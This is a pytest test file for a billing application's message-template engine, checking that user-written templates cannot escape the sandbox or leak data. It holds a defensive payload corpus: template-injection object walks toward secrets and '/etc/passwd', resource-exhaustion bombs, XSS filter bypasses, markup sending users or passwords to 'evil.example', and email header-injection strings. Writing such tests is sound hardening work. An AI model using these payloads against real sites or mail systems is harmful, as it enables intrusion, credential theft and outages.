"""Templates and values made to hurt: none walks into an object, calls, escapes or runs away."""

from __future__ import annotations

import re
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.message_events import event_of
from accounts.wording.cleaning import clean_html
from accounts.wording.environment import OUTPUT_LENGTH_MAX, TemplateRefused
from accounts.wording.parts import Sources, check_sources, fill
from accounts.wording.plain_data import one_line, plain

VALUES = {
    "name": "Kari <script>alert(1)</script> & Sønn",
    "link": "javascript:alert(1)",
    "bills": [{"number": f"FT-{n}", "total": Decimal("905.07")} for n in range(300)],
    "brand": {"name": "Fjordtel", "primary_colour": "#123456"},
    "language": "en",
    "empty": "",
}
# What must never be seen in what is filled in, whatever the template says.
LEAKS = re.compile(
    r"<class|<function|<module|built-in method|object at 0x|SECRET|mappingproxy|__\w+__"
    r"|<script|<style|<iframe|<svg|<img|<form|<object|<embed|<base|<meta|<link"
    r"|javascript:|vbscript:|data:|\son\w+=|expression\(|url\(|@import|49995",
    re.IGNORECASE,
)
WALKS = [
    "{{ name.__class__ }}",
    "{{ name['__class__'] }}",
    "{{ name.__class__.__mro__[1].__subclasses__() }}",
    "{{ bills.__getitem__ }}",
    "{{ bills[0].total.as_tuple }}",
    "{{ bills[0].total.__init__.__globals__ }}",
    "{{ bills.first.keys }}",
    "{{ brand.items }}",
    "{{ brand.copy }}",
    "{{ brand.name.format }}",
    "{{ name.upper() }}",
    "{{ brand.delete }}",
    "{{ brand._meta }}",
    "{{ brand.legal_entity.brands.all }}",
    "{{ self }}",
    "{{ self.__init__ }}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user }}",
    "{{ config }}",
    "{{ forloop.__class__ }}",
    "{% for b in bills limit:1 %}{{ forloop.__class__ }}{{ forloop.parentloop.x }}{% endfor %}",
    "{{ bills[name] }}",
    "{{ [name] }}",
    "{{ brand[brand.name] }}",
    "{{ cycler }}{{ lipsum }}{{ joiner }}",
    "{{ ''.__class__ }}",
    "{{ 'x' | attr: '__class__' }}",
    "{{ name | map: '__class__' }}",
]
TAGS = [
    "{% include 'settings' %}",
    "{% render '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{% load i18n %}",
    "{% debug %}",
    "{% import os %}",
    "{% macro x %}{% endmacro %}",
    "{% call x %}",
    "{% assign x = name %}{{ x }}",
    "{% capture x %}a{% endcapture %}{{ x }}",
    "{% increment x %}",
    "{% cycle 'a', 'b' %}",
    "{% tablerow b in bills %}x{% endtablerow %}",
    "{% liquid echo name %}",
    "{% echo name %}",
    "{% if name %}",
    "{% endif %}",
    "{{ name",
    "{% unknown",
    "{% set x = 1 %}",
    "{% autoescape off %}{{ name }}{% endautoescape %}",
    "{% with x=name %}{{ x }}{% endwith %}",
]
FILTERS = [
    "{{ name | safe }}",
    "{{ name | escape }}",
    "{{ '<script>alert(1)</script>' | safe }}",
    "{{ name | append: name }}",
    "{{ name | replace: 'a', 'aaaaaaaaaa' }}",
    "{{ name | split: '' | join: name }}",
    "{{ 7 | times: 7142.142 }}",
    "{{ name | date: '%s' }}",
    "{{ 'PHNjcmlwdD4=' | base64_decode }}",
    "{{ '%3Cscript%3E' | url_decode }}",
    "{{ name | format: 1 }}",
    "{{ bills | json }}",
    "{{ bills | where: 'number' }}",
    "{{ bills | sort: '__class__' }}",
]
BOMBS = [
    "{% for i in (1..1000000000) %}{{ i }}{% endfor %}",
    "{{ (1..1000000000) | size }}",
    "{% for a in bills %}{% for b in bills %}{% for c in bills %}x" + "{% endfor %}" * 3,
    "{% if name %}" * 500 + "{% endif %}" * 500,
    "{{" + "[" * 5000 + "}}",
    "{{ name " + "| upcase " * 20_000 + "}}",
    "x" * 100_000,
    "{% for a in bills %}" + "y" * 40_000 + "{% endfor %}",
    "{{ name | truncate: 99999999999999999999999999999999 }}",
    "{{ 1e999999999 }}",
    "{{ " + "9" * 50_000 + " }}",
    "{% for b in bills limit: -1 offset: 99999999999999 %}x{% endfor %}",
    "{% for b in bills %}{% if b.number == 'x' or b.number == 'y' %}{% endif %}{% endfor %}" * 200,
    "{% case name %}" + "{% when 'a' %}x" * 4000 + "{% endcase %}",
]
MARKUP = [
    "{% raw %}{{ name }}{% endraw %}<script>alert(1)</script>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>body{background:url(http://evil.example)}</style>",
    '<img src="http://evil.example/pixel" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="{{ link }}">x</a>',
    '<p style="background-image:url(http://evil.example)">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<p style="position:fixed;top:0">x</p>',
    '<p style="color: red; {{ name }}">x</p>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="http://evil.example"></iframe>',
    '<form action="http://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example">',
    '<link rel="stylesheet" href="http://evil.example">',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<{{ name }}>",
    "</main></body><script>alert(1)</script>",
]
CORPUS = WALKS + TAGS + FILTERS + BOMBS + MARKUP


def test_the_corpus_is_large_enough() -> None:
    assert len(set(CORPUS)) >= 100


@pytest.mark.parametrize("number", range(len(CORPUS)))
def test_no_payload_finds_anything(number: int) -> None:
    payload = CORPUS[number]

    try:
        content = fill(Sources(payload, payload, payload), VALUES)
    except TemplateRefused:
        return

    assert not LEAKS.search(content.html), content.html[:500]
    assert "\n" not in content.subject
    assert len(content.html) <= 2 * OUTPUT_LENGTH_MAX


def test_a_refusal_names_part_and_line_in_few_words() -> None:
    with pytest.raises(TemplateRefused, match=r"^text, line 3: Unexpected tag 'include'") as caught:
        fill(Sources("x", "a\nb\n{% include 'settings' %}"), VALUES)

    assert len(str(caught.value)) < 100


@pytest.mark.parametrize("payload", WALKS + FILTERS + TAGS)
def test_no_payload_is_saved_as_a_template(payload: str) -> None:
    event = event_of("payment_reminder")
    assert event is not None

    problems = check_sources(Sources("A reminder", payload, ""), event, "email", "en")

    assert [problem for problem in problems if problem.part == "text"]


@pytest.mark.parametrize(
    "text",
    [
        "Hei\r\nBcc: all@example.com",
        "Hei\nBcc: all@example.com",
        "Hei\x0b\x0cBcc: x",
        "Hei\u2028Bcc: x",
        "Hei\u2029Bcc: x",
        "Hei\x85Bcc: x",
        "Hei\x00Bcc: x",
        "=?utf-8?q?Hei=0ABcc:_x?=",
        "\u202egnp.exe",
        "a\u2066b\u2069",
        "{0.__class__} %s %(x)s ${name} #{name}",
    ],
)
def test_a_name_stays_on_its_line_and_in_its_direction(text: str) -> None:
    line = one_line(text, 200)

    assert not re.search(r"[\x00-\x1f\x7f\x85\u2028\u2029\u202a-\u202e\u2066-\u2069]", line)


def test_what_is_a_value_is_never_read_as_a_template() -> None:
    values = {**VALUES, "name": "{{ brand.name }}{% if x %}{0.__class__}%s"}

    content = fill(Sources("{{ name }}", "{{ name }}", "<p>{{ name }}</p>"), values)

    assert content.subject == "{{ brand.name }}{% if x %}{0.__class__}%s"
    assert "{{ brand.name }}" in content.html


def test_plain_text_is_not_escaped_and_html_is() -> None:
    content = fill(Sources("{{ name }}", "{{ name }}", "<p>{{ name }}</p>"), VALUES)

    assert content.text == "Kari <script>alert(1)</script> & Sønn\n"
    assert content.html == ("<p>Kari &lt;script&gt;alert(1)&lt;/script&gt; &amp; Sønn</p>")


class Evil(str):
    """A text with ways of its own."""

    __slots__ = ()

    def __html__(self) -> str:
        return "<script>alert(1)</script>"


def test_a_text_with_ways_of_its_own_is_only_its_text() -> None:
    content = fill(Sources("x", "{{ name }}", "<p>{{ name }}</p>"), {"name": Evil("<b>")})

    assert content.html == "<p>&lt;b&gt;</p>"


@pytest.mark.parametrize("value", [object(), len, Evil, {1, 2}, b"x", 1.5, {"__class__": 1}])
def test_what_is_no_plain_value_is_refused(value: object) -> None:
    with pytest.raises(TypeError):
        plain({"value": value})


def test_values_can_not_be_changed() -> None:
    values = plain({"bills": [{"number": "1"}]})

    with pytest.raises(TypeError):
        values["bills"] = ()  # type: ignore[index]
    with pytest.raises(TypeError):
        values["bills"][0]["number"] = "2"  # type: ignore[index]


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<p class="quiet evil">x</p>', '<p class="quiet">x</p>'),
        ('<p style="color:red;position:fixed">x</p>', '<p style="color:red">x</p>'),
        (
            '<a href="https://fjordtel.example">x</a>',
            '<a href="https://fjordtel.example" rel="noopener noreferrer">x</a>',
        ),
    ],
)
def test_what_is_allowed_stays(html: str, clean: str) -> None:
    assert clean_html(html) == clean


PIECES = st.sampled_from(
    ["{{", "}}", "{%", "%}", "name", "bills", ".", "[", "]", "|", "__class__", "for b in bills",
     "endfor", "if", "endif", "'", '"', "(1..9)", "<script>", "</p>", "javascript:", "\r\n",
     "\u202e", "size", "upcase", ":", ",", "0", "-1", "brand", "==", "contains", "\x00", " "]
)  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(PIECES | st.text(max_size=3), max_size=25).map("".join))
def test_no_heap_of_pieces_finds_anything(source: str) -> None:
    try:
        content = fill(Sources(source, source, source), VALUES)
    except TemplateRefused:
        return

    assert not re.search(r"<script|<class|object at 0x|\son\w+=", content.html)
    assert not re.search(r"[\r\n\x00]", content.subject)
